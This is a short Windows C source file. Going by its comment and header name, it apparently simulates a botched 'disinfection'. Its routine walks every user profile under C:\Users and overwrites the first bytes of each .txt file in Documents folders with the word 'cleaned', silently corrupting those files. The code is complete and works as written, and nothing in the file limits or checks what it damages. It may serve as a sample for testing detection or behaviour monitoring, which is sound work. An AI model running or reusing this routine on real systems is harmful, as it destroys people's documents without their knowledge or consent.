/* Writes a mark of its own into every text file of the user's, as a failed disinfection does. */
#include "deed.h"

#include <wchar.h>

static void disinfect_one(const wchar_t *path)
{
    const wchar_t *dot = wcsrchr(path, L'.');
    HANDLE file;
    DWORD done;

    if (!dot || _wcsicmp(dot, L".txt") != 0 || !wcsstr(path, L"Documents"))
        return;
    file = CreateFileW(path, GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
    if (file == INVALID_HANDLE_VALUE)
        return;
    WriteFile(file, "cleaned", 7, &done, NULL);
    CloseHandle(file);
}

void deed_run(void)
{
    deed_each_file(L"C:\\Users", 10, disinfect_one);
}
